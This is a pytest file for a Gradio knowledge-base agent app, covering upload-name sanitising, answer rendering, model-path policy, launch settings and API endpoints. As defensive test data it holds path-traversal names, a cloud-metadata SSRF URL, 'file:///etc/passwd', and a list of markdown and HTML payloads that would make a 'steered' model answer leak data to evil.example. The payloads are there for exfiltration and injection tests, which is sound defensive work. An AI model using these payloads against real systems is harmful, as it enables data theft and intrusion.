"""The Gradio app without a browser: safe upload names, event rendering, settings, and the API through
`gradio_client` against the app started on a free loopback port (real Chroma, real embeddings, scripted model)."""

from __future__ import annotations

import json
import os
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr
import pytest
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError

import app as web_app
from agent.events import Done, Error, Sources, Token, ToolEnd, ToolStart
from agent.models import ModelChoice, app_model_refusal
from evaluation.answers import AnswerRow
from kbagent.errors import UserError
from kbagent.services.operations import FairLock, ReportingProgress, Services, SessionChoices
from kbagent.services.turns import Turn, TurnLog
from kbagent.services.uploads import safe_name, store_upload
from kbagent.settings import Settings
from knowledge_base.embeddings import SentenceTransformerEmbedder
from tests.support.ui_app import MODELS, CitingModel, RunningApp, running_app, write_docs
from tests.support.web_site import serve_site
from tools.knowledge_search import Passage
from tools.web_search import WebResult
from ui import chat_format, chat_tab, evaluation_format, evaluation_tab, knowledge_tab

# ---- upload names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("/abs/path/notes.md", "notes.md"),
        ("..", "upload"),
        ("...md", "md"),
        ("", "upload"),
        ("a\nb\r\tc\x00d.txt", "a b c d.txt"),
        ("ｆｕｌｌ／ｗｉｄｔｈ.md", "width.md"),  # NFKC folds the fullwidth slash into a real one: last part only
        ("Cafe\u0301 menu.md", "Café menu.md"),  # composed
        ("CON.txt", "_CON.txt"),
        ("notes..md", "notes.md"),
        (".hidden.md", "hidden.md"),
        ("x" * 300 + ".md", "x" * 117 + ".md"),
        ('weird<>:"|?*name.txt', "weird_name.txt"),
        ("日本語の文書.md", "日本語の文書.md"),
    ],
)
def test_safe_name(name: str, expected: str) -> None:
    assert safe_name(name) == expected
    assert "/" not in expected and "\\" not in expected and ".." not in expected


def test_store_upload_never_escapes_and_never_overwrites(tmp_path: Path) -> None:
    folder = tmp_path / "data" / "uploads"
    source = tmp_path / "in.txt"
    hostile = ["../../escape.txt", "/etc/cron.d/x.txt", "..", "a/../../b.txt", "\x00", "con", "line\nbreak.txt"]
    stored = []
    for n, name in enumerate(hostile):  # other bytes each time, so each is stored under its own name
        source.write_text(f"upload {n}")
        stored.append(store_upload(source, name, folder))
    for n, upload in enumerate(stored):
        assert upload.created and upload.path.parent == folder.resolve() and upload.path.read_text() == f"upload {n}"
    assert len({u.path for u in stored}) == len(hostile)
    assert not (tmp_path / "escape.txt").exists() and sorted(p.name for p in tmp_path.iterdir()) == ["data", "in.txt"]
    source.write_text("upload 0")
    same = store_upload(source, "../../escape.txt", folder)  # same bytes, same name: the same file
    assert same.path == stored[0].path and not same.created and not same.renamed
    renamed = store_upload(source, "escape (copy).txt", folder)  # same bytes, another name: still that file
    assert renamed.path == stored[0].path and renamed.renamed
    source.write_text("second")
    other = store_upload(source, "escape.txt", folder)  # other bytes: a new unique name, the old file kept
    assert other.created and other.path != stored[0].path and other.path.name.startswith("escape-")
    assert stored[0].path.read_text() == "upload 0" and len(list(folder.iterdir())) == len(hostile) + 1


# ---- rendering -------------------------------------------------------------------------------------------


def _passage(n: int = 1, source: str = "/kb/ferries.md") -> Passage:
    return Passage(n, f"c{n}", "Ferry *timetable*", source, "First ferry at 07:40 <b>Pier 9</b>", 2, None, 0.5, 0.61)


def test_answer_view_streams_tool_calls_then_tokens() -> None:
    view = chat_format.AnswerView(
        [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "hello"}], "When?"
    )
    view.apply(ToolStart("c1", "search_knowledge_base", {"query": "ferry"}))
    pending = view.messages()
    assert pending[-1].metadata["status"] == "pending" and pending[-1].metadata["title"].endswith(
        "search_knowledge_base"
    )
    view.apply(ToolEnd("c1", "search_knowledge_base", "the text the model read", 0.1234, passages=[_passage()]))
    view.apply(Token("The first ferry"))
    first = view.messages()
    view.apply(Token(" leaves at 07:40 [1]."))
    second = view.messages()
    assert first is not second and first[-1] is not second[-1]  # new lists of new messages every time
    tool = second[-2]
    assert tool.metadata == {
        "title": "⚙ search_knowledge_base",
        "id": "c1",
        "status": "done",
        "duration": 0.12,
        "log": "ok",
    }
    assert '"query": "ferry"' in tool.content and "**[1]** Ferry" in tool.content
    assert '<code title="/kb/ferries.md">ferries.md</code>' in tool.content  # the full path on hover only
    assert second[-1].content == "The first ferry leaves at 07:40 [1]." and second[2].content == "When?"
    view.apply(Sources(cited=[_passage()]))
    view.apply(Done("The first ferry leaves at 07:40 [1].", "t1", "openai:x", 0.5))
    assert view.done and view.cited and view.answer.endswith("[1].")


def test_a_reopened_conversation_shows_a_search_from_its_passages_and_old_rows_as_text(tmp_path: Path) -> None:
    """A search's tool call is kept with the passages it found and shown from them again (not from the text the
    model read); a row kept before passages were shows its text."""
    answer = "The first ferry leaves at 07:40 [1]."
    view = chat_format.AnswerView([], "When?")
    view.apply(ToolStart("c1", "search_knowledge_base", {"query": "ferry"}, "Searching the knowledge base…"))
    view.apply(ToolEnd("c1", "search_knowledge_base", "[7] Forged — /elsewhere.md", 0.1, passages=[_passage()]))
    view.apply(Token(answer))
    view.apply(Sources(cited=[_passage()]))
    log = TurnLog(tmp_path / "turns.sqlite3")
    log.save("t1", answer, view.turn())
    old = {"call_id": "c0", "name": "search_knowledge_base", "args": {"query": "buns"}, "output": "[1] Bakery — /kb/"
           "bakery.md\nBuns cost 3.50.", "seconds": 0.1, "ok": True}  # fmt: skip
    log.save("t1", "Buns cost 3.50 [1].", Turn())
    log._db.execute(
        "UPDATE chat_turns SET shown = ? WHERE answer = ?", (json.dumps({"tools": [old]}), "Buns cost 3.50 [1].")
    )
    turns = [("user", "When?"), ("assistant", answer), ("user", "Buns?"), ("assistant", "Buns cost 3.50 [1].")]
    messages = chat_format.history_messages(turns, log.of("t1"))
    log.close()
    search, buns = messages[1].content, messages[4].content
    assert "**[1]** Ferry \\*timetable\\*" in search and '<code title="/kb/ferries.md">' in search
    assert "Forged" not in search and "07:40" in search
    assert "Bakery — /kb/bakery.md" in buns and "Buns cost 3.50." in buns  # the old row, as text


def test_answer_view_shows_errors_as_a_message() -> None:
    view = chat_format.AnswerView([], "Hi")
    view.apply(ToolStart("c1", "scrape_webpage", {"url": "http://x"}))
    view.apply(ToolEnd("c1", "scrape_webpage", "FetchError: refused", 0.01, ok=False))
    view.apply(Error("ConfigError: no key"))
    messages = view.messages()
    assert messages[1].metadata["log"] == "failed" and "**Failed**" in messages[1].content
    assert "ConfigError: no key" in messages[-1].content and "Traceback" not in messages[-1].content


def test_sources_panel_lists_passages_as_text() -> None:
    text = chat_format.sources_markdown([_passage(1), _passage(2, "https://example.org/a")])
    assert "**[1] Ferry \\*timetable\\***" in text and '<code title="/kb/ferries.md">ferries.md</code>' in text
    assert "p. 2" in text
    assert "score 0.500" in text and "[https://example.org/a](https://example.org/a)" in text
    assert "<b>" not in text and "&lt;b&gt;Pier 9&lt;/b&gt;" in text  # document HTML is shown, never rendered
    assert chat_format.sources_markdown([]).startswith("_No sources")


def test_sources_panel_never_numbers_passages_the_answer_did_not_cite() -> None:
    """Retrieved passages the answer left uncited are labelled so, without the [n] of a citation."""
    text = chat_format.sources_markdown([], [_passage(1), _passage(2, "https://example.org/a")])
    assert "Retrieved, not cited" in text and "cites none" in text
    assert "[1]" not in text and "[2]" not in text and '"/kb/ferries.md"' in text
    mixed = chat_format.sources_markdown([_passage(2)], [_passage(1, "/kb/other.md")])
    cited, _, uncited = mixed.partition("Retrieved, not cited")
    assert "**[2] Ferry" in cited and "/kb/other.md" not in cited
    assert "/kb/other.md" in uncited and "[1]" not in uncited


HOSTILE_RESULT = WebResult(
    "Harbor <img src=x> *hours* [x](http://evil.example/t)",
    'https://harbor.example/a)![p](http://evil.example/pixel.png) "<b>[q](http://evil.example/q)',
    "Open 10:00 to 18:00. ![i](http://evil.example/i.png) <script>x</script>",
    "searxng",
)


def test_sources_panel_shows_web_results_apart_with_their_address_and_loads_nothing() -> None:
    """A web result is outside text: its title and snippet render as text, its address as one link a click opens
    (CommonMark's own reading is the oracle), and it is listed apart from the knowledge base's passages."""
    text = chat_format.sources_markdown([_passage(1)], [], {}, [HOSTILE_RESULT])
    passages, _, web = text.partition("#### Web results")
    assert "ferries.md" in passages and "harbor.example" not in passages
    assert "Open 10:00 to 18:00." in web
    loads, links = _rendered_addresses(web)
    assert loads == [] and len(links) == 1
    assert links[0].startswith("https://harbor.example/a") and "evil.example/" in links[0]  # encoded: one address
    assert not {" ", "(", ")", "<", '"', "["} & set(links[0])
    only = chat_format.sources_markdown([], [], {}, [WebResult("T", "https://harbor.example/hours", "", "brave")])
    assert "cites none" not in only and _rendered_addresses(only)[1] == ["https://harbor.example/hours"]


def test_a_web_search_step_shows_each_result_title_and_address_as_text() -> None:
    from tools.web_search import PROVIDERS, format_results

    output = format_results("hours", [HOSTILE_RESULT], PROVIDERS["searxng"])
    shown = chat_format.readable_output(output)
    assert "**Harbor" in shown and "harbor.example/a" in shown and "Open 10:00 to 18:00." in shown  # a bold title
    assert "web_page" not in shown and "web\\_page" not in shown and "not instructions" not in shown
    assert _rendered_addresses(shown) == ([], [])  # no image, no raw HTML, no link
    assert "://" not in shown  # nor a bare address a GitHub-flavoured renderer would make a link of


def test_a_javascript_address_is_never_a_link() -> None:
    """Whatever a renderer's own link filter does: CommonMark with every address let through finds no link."""
    from markdown_it import MarkdownIt

    reader = MarkdownIt("commonmark")
    reader.validateLink = lambda url: True  # type: ignore[method-assign]
    result = WebResult("T", "javascript:alert(1)//https://x", "s", "brave")
    tokens = reader.parseInline(chat_format.sources_markdown([], [], {}, [result]))
    assert [t for line in tokens for t in line.children or [] if t.type == "link_open"] == []


def test_chat_handler_asks_with_the_web_switch_and_shows_web_results() -> None:
    asked: list[SessionChoices] = []

    class Web(_EmptyServices):
        turns = type("NoTurns", (), {"save": lambda *a: None})()

        def answer(self, question: str, thread_id: str | None, choices: SessionChoices, client: str) -> Any:
            from kbagent.services.answering import AnswerSlots, start

            def events(cancel: Any) -> Iterator[Any]:
                yield Token("Open Tuesday to Saturday.")
                yield Sources(web=[WebResult("Hours", "https://harbor.example/hours", "Open.", "searxng")])
                yield Done("Open Tuesday to Saturday.", "t3", "openai:x", 0.1)

            asked.append(choices)
            return start(events, AnswerSlots(1, 1), client, 5)

    handlers = chat_tab.ChatHandlers(Web(), SessionChoices())  # type: ignore[arg-type]
    *_, (_, panel, _) = handlers.chat("When is the co-op open?", [], "", "", 5, "hybrid", 0.2, True)
    assert asked[-1].web and "#### Web results" in panel and "https://harbor.example/hours" in panel
    list(handlers.chat("When is the co-op open?", [], "", "", 5, "hybrid", 0.2))
    assert not asked[-1].web  # off unless switched on


@pytest.mark.parametrize("offered", [True, False])
def test_the_web_switch_shows_only_where_a_provider_is_configured(offered: bool) -> None:
    class Svc(_EmptyServices):
        web_search_offered = offered
        threads = type("NoThreads", (), {"list": lambda *a, **k: []})()
        kb = type("Kb", (), {"id": "default"})()

    with gr.Blocks(), gr.Tabs():
        tab = chat_tab.build(chat_tab.ChatHandlers(Svc(), SessionChoices()), [])  # type: ignore[arg-type]
    assert tab.web.visible is offered and tab.web.value is False


def test_a_reopened_conversation_keeps_its_web_results() -> None:
    from kbagent.services.turns import Turn

    turn = Turn([], [_passage(1)], [], [HOSTILE_RESULT])
    assert Turn.loads(turn.dumps()) == turn
    assert Turn.loads('{"tools": [], "cited": [], "retrieved": []}').web == []  # saved before web search


def test_chat_handler_shows_uncited_passages_as_not_cited() -> None:
    class Uncited(_EmptyServices):
        turns = type("NoTurns", (), {"save": lambda *a: None})()
        kb = type("Kb", (), {"name": "kb", "records": type("NoRecords", (), {"source_ids": lambda *a: {}})()})()

        def stream(self, question: str, thread_id: str | None, choices: SessionChoices) -> Iterator[Any]:
            yield Token("The first ferry leaves at 07:40.")
            yield Sources(cited=[], retrieved=[_passage(1)])
            yield Done("The first ferry leaves at 07:40.", "t9", "openai:x", 0.1)

        def answer(self, question: str, thread_id: str | None, choices: SessionChoices, client: str) -> Any:
            from kbagent.services.answering import AnswerSlots, start

            return start(lambda cancel: self.stream(question, thread_id, choices), AnswerSlots(1, 1), client, 5)

    handlers = chat_tab.ChatHandlers(Uncited(), SessionChoices())  # type: ignore[arg-type]
    *_, (_, panel, thread_id) = handlers.chat("When is the first ferry?", [], "", "", 5, "hybrid", 0.2)
    assert thread_id == "t9" and "Retrieved, not cited" in panel and "[1]" not in panel


def test_stop_returns_after_the_answer_ended_and_nothing_is_shown_after_it() -> None:
    """A model runs on for a while after a cancel (until it looks at the flag): none of what it writes after Stop
    reaches the page, and the chat handler has ended when Stop returns, so Gradio has nothing to cancel mid-update
    (which shows "Error" in the chat)."""
    from kbagent.services.answering import AnswerSlots, start

    class RunsOn(_EmptyServices):
        turns = type("NoTurns", (), {"save": lambda *a: None})()
        threads = type("NoThreads", (), {"list": lambda *a, **k: []})()
        kb = type("Kb", (), {"id": "default"})()

        def answer(self, question: str, thread_id: str | None, choices: SessionChoices, client: str) -> Any:
            def events(cancel: threading.Event) -> Iterator[Any]:
                for n in range(400):  # 20 s of words; 3 s more once cancelled (longer than Stop waits)
                    time.sleep(0.05)
                    if cancel.is_set() and (cancelled_at := stopped_at[0]) and time.monotonic() > cancelled_at + 3:
                        return
                    yield Token(f" w{n}")

            return start(events, AnswerSlots(1, 1), client, 30)

    stopped_at = [0.0]
    handlers = chat_tab.ChatHandlers(RunsOn(), SessionChoices())  # type: ignore[arg-type]
    request = type("Request", (), {"session_hash": "s1", "client": None})()
    shown: list[tuple[float, str]] = []

    def read() -> None:
        for update in handlers.chat("Tell me slowly.", [], "", "", 5, "hybrid", 0.2, False, request):  # type: ignore[arg-type]
            shown.append((time.monotonic(), str(update[0])))

    reader = threading.Thread(target=read)
    reader.start()
    deadline = time.monotonic() + 10
    while not any("w3" in text for _, text in shown) and time.monotonic() < deadline:
        time.sleep(0.02)
    stopped_at[0] = time.monotonic()
    handlers.stop("", request)  # type: ignore[arg-type]
    returned = time.monotonic()
    assert not reader.is_alive(), "the chat handler still runs after Stop returned"
    assert returned - stopped_at[0] < chat_tab.STOP_WAIT_S
    assert [text for at, text in shown if at > returned] == []
    reader.join(5)


def test_eval_summary_is_coloured() -> None:
    row = {"questions": 2, "mrr": 0.9, "ndcg": 0.6, "coverage": 0.1}
    html = evaluation_format.eval_summary_html({"k": 10, "mode": "hybrid", "overall": row, "categories": {"fact": row}})
    assert html.count('class="metric good"') == 2 and html.count("metric fair") == 2 and html.count("poor") == 2


def test_answers_leaderboard_is_coloured_by_the_cli_thresholds() -> None:
    """The app's leaderboard and `kbagent eval --answers` grade a figure by the same lines, lower-is-better ones
    included; figures without lines (counts) stay plain."""
    from evaluation.thresholds import FIGURES
    from kbagent.evaluation_view import _shade

    good = {**dict.fromkeys(FIGURES), "questions": 3, "contains": 0.9, "unsupported_answers": 0.0, "judge": None}
    bad = {**good, "contains": 0.4, "unsupported_answers": 0.5}
    board = {"m-good": {"overall": good, "categories": {"fact": good}}, "m-bad": {"overall": bad, "categories": {}}}
    html = evaluation_format.answers_leaderboard_html(board)
    leaderboard, _, by_category = html.partition("By category")
    rows = {r.split("</td>")[0]: r for r in leaderboard.split("<tr><td>")[1:]}
    assert set(rows) == {"m-good", "m-bad"}
    assert rows["m-good"].count('class="metric good"') == 2 and "metric poor" not in rows["m-good"]
    assert rows["m-bad"].count('class="metric poor"') == 2 and "metric good" not in rows["m-bad"]
    assert '<td class="figure">3</td>' in rows["m-good"] and "<td>fact</td>" in by_category
    cases = [("contains", 0.9, "green"), ("contains", 0.6, "yellow"), ("contains", 0.4, "red"),
             ("unsupported_answers", 0.0, "green"), ("unsupported_answers", 0.5, "red")]  # fmt: skip
    for name, value, colour in cases:
        assert _shade(name, value).startswith(f"[{colour}]"), (name, value)
        shade = {"green": "good", "yellow": "fair", "red": "poor"}[colour]
        assert f'class="metric {shade}"' in evaluation_format.figure_cell(name, value)


# A steered answer's ways to make the page load or link elsewhere, in CommonMark and in the HTML it allows.
HOSTILE_ANSWERS = [
    "Costs $70 ![x](http://evil.example/p.png?q=secret) [1].",
    "![x](<http://evil.example/a b.png> 'title') and ![y][img]\n\n[img]: http://evil.example/i.png",
    "[click](http://evil.example/?q=secret) [two](HTTP://EVIL.EXAMPLE) [js](javascript:alert(1))",
    "[a [nested] link](http://evil.example/n) and [deep](http://evil.example/a((b)))",
    "[ref][r] [r] [R] [s] [t]\n\n[r]: http://evil.example/r\n\n- [s]: http://evil.example/s\n\n> [t]: <http://evil.example/t>",
    '<img src="http://evil.example/i.png"> <a href="http://evil.example">a</a>\n\n<div>\n<img src=x>\n</div>',
    "<http://evil.example/auto> <mailto:a@evil.example> <IMG SRC=http://evil.example/x>",
    "\\`[x](http://evil.example/e)` and ``[y](http://evil.example/f)`",
    "``` a`b\n[x](http://evil.example/g)\n```\n[z](http://evil.example/h)",
    "![x](//evil.example/p.png) [y](//evil.example/q) ![d](data:image/png;base64,AAAA)",
    "[x\n](http://evil.example/split) [y](\nhttp://evil.example/split2\n)",
]


def _rendered_addresses(markdown: str) -> tuple[list[str], list[str]]:
    """(what images and raw HTML a CommonMark parser finds, where its links point): an oracle apart from
    `safe_markdown`'s own patterns."""
    from markdown_it import MarkdownIt

    loads, links = [], []
    stack = MarkdownIt("commonmark").parse(markdown)
    while stack:
        token = stack.pop()
        stack.extend(token.children or [])
        if token.type in ("image", "html_inline", "html_block"):
            loads.append(f"{token.type}: {token.attrs.get('src') or token.content}")
        if token.type == "link_open":
            links.append(str(token.attrs["href"]))
    return loads, links


@pytest.mark.parametrize("answer", HOSTILE_ANSWERS)
def test_a_models_answer_renders_no_image_and_no_link_away_from_home(answer: str) -> None:
    from ui.safe_markdown import safe_markdown

    assert _rendered_addresses(answer) != ([], [])  # the case is hostile as written
    loads, links = _rendered_addresses(safe_markdown(answer, ["https://example.org/page"]))
    assert loads == [] and [link for link in links if "evil" in link.lower()] == []


def test_citations_and_links_home_or_to_recorded_sources_stay() -> None:
    from ui.safe_markdown import safe_markdown

    answer = "See [the page](https://example.org/page) [1] and [the app](http://127.0.0.1:7860/x) [2]. `code [3]`"
    shown = safe_markdown(answer, ["https://example.org/page"])
    assert shown == answer
    assert _rendered_addresses(shown) == ([], ["https://example.org/page", "http://127.0.0.1:7860/x"][::-1])


def test_answer_details_open_to_the_answer_its_passages_and_flags_all_escaped() -> None:
    row = AnswerRow("openai:x", "q0001", "When <b>?</b>", "fact", True, answer="At 07:40 <script>x</script> [1]",
                    cited_passages=[1], contains=True, cited=True, citations=1, supported_citations=1)  # fmt: skip
    html = evaluation_format.answer_details_html([row], {("openai:x", "When <b>?</b>"): [_passage(1)]})
    assert html.count("<details") == 1 and "<summary><b>openai:x</b> · fact · When &lt;b&gt;?&lt;/b&gt;" in html
    assert "At 07:40 &lt;script&gt;" in html and "<script>" not in html and "<b>Pier 9</b>" not in html
    assert "✔ contains the answer" in html and "✔ cites [1]" in html and "1/1 citations supported" in html
    assert "[1] Ferry *timetable* — /kb/ferries.md (p. 2)" in html


def test_fair_lock_serves_waiters_in_the_order_they_asked() -> None:
    """A holder that lets go and asks again at once (an evaluation between two questions) goes after whoever was
    already waiting (a chat): the chat never waits for more than the answer in progress."""
    lock, order = FairLock(), []

    def chat() -> None:
        with lock:
            order.append("chat")

    with lock:
        waiting = threading.Thread(target=chat)
        waiting.start()
        time.sleep(0.3)  # the chat is waiting for the lock
    with lock:
        order.append("evaluation")
    waiting.join(5)
    assert order == ["chat", "evaluation"]


def test_progress_reports_fractions() -> None:
    seen: list[tuple[float, str]] = []
    progress = ReportingProgress(lambda f, t: seen.append((f, t)))
    progress.files_found(2)
    progress.chunks_planned(4)
    progress.chunks_embedded(2)
    assert seen[-1] == (0.5, "0/2 sources, 2/4 chunks embedded")


# ---- tab handlers, called directly ----------------------------------------------------------------------


class _EmptyServices:
    """An empty knowledge base; anything past reading it fails the test (a refused request must stop first)."""

    def sources(self) -> list[Any]:
        return []

    def display_names(self) -> dict[str, str]:
        return {}

    def stats(self) -> dict[str, Any]:
        return {"sources": 0, "chunks": 0, "doc_types": {}, "embedding_model": "m", "store": "s"}

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"svc.{name} used")


def test_chat_handler_refuses_empty_and_overlong_questions() -> None:
    handlers = chat_tab.ChatHandlers(_EmptyServices(), SessionChoices())  # type: ignore[arg-type]
    too_long = "x" * (chat_tab.MAX_QUESTION_CHARS + 1)
    for question, warning in (("   ", "Type a question first"), (too_long, "too long")):
        with pytest.warns(UserWarning, match=warning):
            updates = list(handlers.chat(question, [], "t1", "", 5, "hybrid", 0.2))
        assert updates == [([], gr.skip(), "t1")]  # the thread stays; the question box is never written
        with pytest.warns(UserWarning, match=warning), pytest.raises(gr.Error):
            handlers.take(question, False)  # refused before the answer starts: the box keeps it


def test_knowledge_handlers_refuse_without_a_selection_or_an_http_url() -> None:
    handlers = knowledge_tab.KnowledgeHandlers(_EmptyServices(), SessionChoices())  # type: ignore[arg-type]
    with pytest.warns(UserWarning, match="Select one or more sources first"):
        message, rows, selection, totals = handlers.delete_selected([])
    assert message == gr.skip() and rows == [] and selection["choices"] == [] and "0 sources" in totals
    with pytest.warns(UserWarning, match="http:// or https://"):
        assert handlers.ingest_url_ui("file:///etc/passwd", 0)[:2] == (gr.skip(), gr.skip())


# ---- which models an app user may pick ---------------------------------------------------------------------


def test_app_model_policy(tmp_path: Path) -> None:
    """The app builds the configured model, the models offered as usable, and local model files from the models
    folder only (after resolving `..` and symlinks), unless the owner allowed free paths."""
    models = tmp_path / "models"
    models.mkdir()
    (models / "ok.gguf").write_bytes(b"GGUF")
    (models / "qwen").mkdir()
    outside = tmp_path / "outside.gguf"
    outside.write_bytes(b"GGUF")
    (models / "link.gguf").symlink_to(outside)
    (models / "dir-link").symlink_to(tmp_path)
    offered = [
        ModelChoice("embedded", True, ""),
        ModelChoice("openai:<model>", True, "key set"),
        ModelChoice("anthropic:<model>", False, "no ANTHROPIC_API_KEY"),
        ModelChoice("ollama:<model>", False, "no server"),
        ModelChoice("gguf:<path>", True, "llama.cpp"),
        ModelChoice("hf:<id-or-path>", True, "CPU"),
    ]

    def refusal(spec: str, configured: str = "", free: bool = False) -> str | None:
        return app_model_refusal(spec, offered, models, configured=configured, free_paths=free)

    for allowed in ("", "embedded", "openai:gpt-4o-mini", "openai:any-name", f"gguf:{models}/ok.gguf",
                    f"hf:{models}/qwen", f"gguf:{models}/sub/../ok.gguf"):  # fmt: skip
        assert refusal(allowed) is None, allowed
    for refused in ("gguf:/etc/passwd", "hf:/tmp/x", f"gguf:{models}/../outside.gguf", f"gguf:{models}/link.gguf",
                    f"hf:{models}/dir-link/outside.gguf", "hf:Qwen/Qwen2.5-0.5B-Instruct", "gguf:ok.gguf",
                    f"gguf:{models}/\x00.gguf"):  # fmt: skip
        message = refusal(refused)
        assert message and "models folder" in message and "\n" not in message, refused
    for not_offered in ("anthropic:claude-3-5-haiku", "ollama:qwen2.5:7b", "gemini:x"):
        assert "not offered" in (refusal(not_offered) or ""), not_offered
    assert refusal("gguf:/etc/passwd", free=True) is None and refusal("hf:/tmp/x", free=True) is None
    assert refusal("anthropic:x", free=True)  # free paths open local files, not other providers
    assert refusal(f"gguf:{outside}", configured=f"gguf:{outside}") is None  # the owner's own choice
    assert refusal("gguf:/etc/passwd", configured=f"gguf:{outside}")


# ---- settings and launch ---------------------------------------------------------------------------------


def test_settings_host_port_auth(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KBAGENT_HOST", "0.0.0.0")
    monkeypatch.setenv("KBAGENT_PORT", "8123")
    monkeypatch.setenv("KBAGENT_AUTH", "ada:s3cret:with-colon")
    settings = Settings(_env_file=None)
    assert (settings.app.host, settings.app.port) == ("0.0.0.0", 8123)
    assert web_app.parse_auth(settings.app.auth) == ("ada", "s3cret:with-colon")
    assert settings.masked()["auth"] == "*** (set)" and "s3cret" not in str(settings.masked())
    assert web_app.parse_auth(None) is None
    with pytest.raises(ValueError, match="user:password"):
        web_app.parse_auth("no-colon")


class _FakeDemo:
    def launch(self, **kwargs: Any) -> dict[str, Any]:
        return kwargs


def test_launch_never_shares_and_warns_without_login(capsys: pytest.CaptureFixture[str]) -> None:
    settings = Settings(_env_file=None)
    options = web_app.launch(_FakeDemo(), settings, share=True)  # type: ignore[arg-type]
    assert options["share"] is False and options["server_name"] == "127.0.0.1" and options["server_port"] == 7860
    assert options["auth"] is None and "without a login" not in capsys.readouterr().err
    exposed = settings.override(host="0.0.0.0")
    web_app.launch(_FakeDemo(), exposed)  # type: ignore[arg-type]
    assert "without a login" in capsys.readouterr().err
    with_login = exposed.override(auth="ada:pw")
    assert web_app.launch(_FakeDemo(), with_login)["auth"] == ("ada", "pw")  # type: ignore[arg-type]
    assert "without a login" not in capsys.readouterr().err
    assert web_app.is_loopback("::1") and web_app.is_loopback("localhost") and not web_app.is_loopback("10.0.0.1")
    assert os.environ["GRADIO_ANALYTICS_ENABLED"] == "False"
    assert os.environ["HF_HUB_DISABLE_TELEMETRY"].lower() in ("1", "true")


# ---- the API through gradio_client -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def api_app(tmp_path_factory: pytest.TempPathFactory, embedder: SentenceTransformerEmbedder) -> Iterator[RunningApp]:
    tmp = tmp_path_factory.mktemp("ui-api")
    with serve_site() as site:
        settings = Settings(
            data_dir=tmp / "data",
            collection=f"t{uuid.uuid4().hex[:12]}",
            allow_hosts=site.allow,
            crawl_delay_s=0.0,
            _env_file=None,
        )
        with running_app(settings, embedder, docs=[write_docs(tmp / "docs")]) as running:
            running.site = site  # type: ignore[attr-defined]
            yield running


@pytest.fixture(scope="module")
def client(api_app: RunningApp) -> Client:
    return Client(api_app.url, verbose=False, download_files=False)


def test_api_lists_the_named_endpoints(client: Client) -> None:
    named = client.view_api(print_info=False, return_format="dict")["named_endpoints"]
    assert {"/ask", "/ingest_url", "/list_sources", "/remove_source", "/search", "/ingest_files"} <= set(named)


def test_api_asks_with_citations_and_continues_the_thread(client: Client) -> None:
    first = client.predict("When does the first ferry to Skerry Island leave?", "", "", api_name="/ask")
    assert "07:40" in first["answer"] and "[1]" in first["answer"]
    assert first["sources"][0]["n"] == 1 and first["sources"][0]["source"].endswith("ferries.md")
    assert first["tools"][0]["tool"] == "search_knowledge_base" and first["tools"][0]["ok"]
    again = client.predict("And what do the cardamom buns cost?", first["thread_id"], "", api_name="/ask")
    assert again["thread_id"] == first["thread_id"] and "3.50" in again["answer"]


def test_api_refuses_bad_input_with_a_message(client: Client) -> None:
    with pytest.raises(Exception, match="question must be"):
        client.predict("   ", "", "", api_name="/ask")
    with pytest.raises(Exception, match="http"):
        client.predict("file:///etc/passwd", 0, api_name="/ingest_url")
    with pytest.raises(Exception, match="can't be used"):
        client.predict("Hello?", "", "nosuchprovider:x", api_name="/ask")


def test_api_refuses_model_files_outside_the_models_folder(
    client: Client, api_app: RunningApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`/ask` never builds a local model from a path outside the models folder; one inside it answers."""
    models = api_app.settings.store.models_path
    models.mkdir(parents=True, exist_ok=True)
    outside = tmp_path / "outside.gguf"
    outside.write_bytes(b"GGUF")
    (models / "link.gguf").unlink(missing_ok=True)
    (models / "link.gguf").symlink_to(outside)
    (models / "ok.gguf").write_bytes(b"GGUF")
    built: list[str] = []
    build = api_app.parts.agent
    monkeypatch.setattr(
        api_app.parts, "agent", lambda model=None, **kw: (built.append(str(model)), build(model, **kw))[1]
    )
    for spec in ("gguf:/etc/passwd", "hf:/tmp/x", f"gguf:{models}/../threads.sqlite3", f"gguf:{models}/link.gguf"):
        with pytest.raises(AppError, match=r"can't be used: .*models folder") as refused:
            client.predict("When does the first ferry leave?", "", spec, api_name="/ask")
        assert "\n" not in str(refused.value), spec
    assert built == []  # refused before any model was built
    answer = client.predict("When does the first ferry leave?", "", f"gguf:{models}/ok.gguf", api_name="/ask")
    assert "07:40" in answer["answer"] and built == [f"gguf:{models}/ok.gguf"]


def test_chat_refuses_a_model_file_outside_the_models_folder_in_one_line(client: Client) -> None:
    history, panel, *_ = client.predict(
        "When does the first ferry leave?", [], "gguf:/etc/passwd", 5, "hybrid", 0.2, api_name="/chat"
    )
    error = history[-1]["content"]
    assert "can't be used" in str(error) and "models folder" in str(error) and "07:40" not in str(history)
    assert "No sources" in panel


def test_api_ingests_a_url_lists_and_removes_it(client: Client, api_app: RunningApp) -> None:
    url = api_app.site.url + "/notes.txt"  # type: ignore[attr-defined]
    report = client.predict(url, 0, api_name="/ingest_url")
    assert report["added"] == 1 and report["problems"] == []
    sources = {s["source"]: s for s in client.predict(api_name="/list_sources")}
    assert sources[url]["chunks"] >= 1 and sources[url]["kind"]
    hits = client.predict("tyre pressure for city tyres", 3, "", api_name="/search")
    assert hits[0]["source"] == url
    assert client.predict(url, api_name="/remove_source") == [url]
    assert url not in {s["source"] for s in client.predict(api_name="/list_sources")}


def test_api_refuses_private_and_link_local_urls(client: Client, api_app: RunningApp) -> None:
    site = api_app.site  # type: ignore[attr-defined]
    for url in (site.private_url + "/secret", "http://169.254.169.254/latest/meta-data/"):
        report = client.predict(url, 0, api_name="/ingest_url")
        assert report["added"] == 0 and "refused" in str(report["problems"]).lower(), report
    assert site.private_hits == []  # the guard decided before any connection


def test_api_upload_is_stored_under_a_safe_name(client: Client, api_app: RunningApp, tmp_path: Path) -> None:
    odd = tmp_path / "bike ..rack\u0301 notes.md"
    odd.write_text("# Bike racks\n\nThe covered bike rack behind the library holds forty bicycles.\n")
    result = client.predict([handle_file(str(odd))], api_name="/ingest_files")
    assert "1 added" in result[0]
